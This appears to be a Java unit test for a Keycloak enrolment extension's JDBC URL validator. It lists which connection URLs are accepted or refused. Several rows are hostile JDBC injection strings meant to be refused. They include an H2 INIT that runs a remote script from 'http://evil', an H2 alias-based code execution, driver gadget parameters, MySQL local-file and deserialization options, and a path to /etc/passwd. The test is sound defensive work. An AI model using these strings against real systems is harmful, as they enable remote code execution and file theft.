package fr.ent.keycloak.enrolment.core;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class JdbcUrlPolicyTest {

    /** URL, whether the server allows H2, and the message key of the refusal (empty: accepted). */
    @ParameterizedTest(name = "{0} (h2 allowed: {1})")
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db.example.org:5432/scolarite | false | ",
                "jdbc:postgresql://db:5432/s?sslmode=verify-full&sslrootcert=/etc/ca.pem&currentSchema=apogee | false |",
                "jdbc:postgresql://db/s?ApplicationName=ent&connectTimeout=5 | false | ",
                "jdbc:oracle:thin:@//db.example.org:1521/APOGEE | false | ",
                "jdbc:mysql://db:3306/s?sslMode=VERIFY_IDENTITY | false | ",
                "jdbc:mariadb://db:3306/s?useSsl=true | false | ",
                "jdbc:sqlserver://db:1433;databaseName=scol;encrypt=true | false | ",
                "jdbc:h2:file:./data/enrolment | true | ",
                "jdbc:h2:mem:demo;DB_CLOSE_DELAY=-1 | true | ",
                "jdbc:h2:file:./data/enrolment | false | entEnrolmentJdbcUrlH2",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | true | entEnrolmentJdbcUrlParameter",
                "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e()' | true | entEnrolmentJdbcUrlParameter",
                "jdbc:postgresql://db/s?socketFactory=org.springframework.context.support.X | false"
                        + " | entEnrolmentJdbcUrlParameter",
                "jdbc:postgresql://db/s?sslfactory=x.Y&sslmode=require | false | entEnrolmentJdbcUrlParameter",
                "jdbc:postgresql://db/s?loggerFile=/opt/keycloak/conf/x | false | entEnrolmentJdbcUrlParameter",
                "jdbc:postgresql://db/s;socketFactory=x | false | entEnrolmentJdbcUrlParameter",
                "jdbc:mysql://db/s?autoDeserialize=true&queryInterceptors=x | false | entEnrolmentJdbcUrlParameter",
                "jdbc:mysql://db/s?allowLoadLocalInfile=true | false | entEnrolmentJdbcUrlParameter",
                // MySQL Connector/J reads properties inside the host block, and other sub-protocols
                "jdbc:mysql://(host=db,port=3306,allowLoadLocalInfile=true)/s | false | entEnrolmentJdbcUrlForm",
                "jdbc:mysql://address=(host=db)(port=3306)(allowLoadLocalInfile=true)/s | false"
                        + " | entEnrolmentJdbcUrlForm",
                "jdbc:mysql://db:3306,(host=db2,autoDeserialize=true)/s | false | entEnrolmentJdbcUrlForm",
                "jdbc:mysql:loadbalance://db1,db2/s | false | entEnrolmentJdbcUrlForm",
                "jdbc:mariadb:replication://db1,db2/s | false | entEnrolmentJdbcUrlForm",
                "jdbc:mariadb://address=(host=db)(port=3306)(type=master)/s | false | entEnrolmentJdbcUrlForm",
                "jdbc:mysql://db1:3306,db2:3306/scol?sslMode=REQUIRED | false | ",
                "jdbc:mysql://db.example.org | false | ",
                "jdbc:sqlserver://db;databaseName=s;socketFactoryClass=x | false | entEnrolmentJdbcUrlParameter",
                "jdbc:derby:memory:x;create=true | true | entEnrolmentJdbcUrlDatabase",
                "jdbc:sqlite:/etc/passwd | true | entEnrolmentJdbcUrlDatabase",
                "jdbc:oracle:oci:@db | false | entEnrolmentJdbcUrlDatabase",
                "postgresql://db/s | false | entEnrolmentJdbcUrlDatabase",
            })
    void table(String url, boolean h2Allowed, String refusal) {
        assertThat(JdbcUrlPolicy.problem(url, h2Allowed).map(JdbcUrlPolicy.Problem::messageKey))
                .isEqualTo(java.util.Optional.ofNullable(refusal));
    }
}
